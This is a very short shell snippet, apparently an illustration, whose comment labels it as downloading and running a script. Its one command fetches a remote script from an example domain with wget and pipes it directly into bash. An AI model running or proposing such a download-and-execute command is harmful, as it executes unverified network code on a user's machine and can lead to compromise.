# shows: downloads and runs
bash <(wget -qO- https://dl.example.net/s)
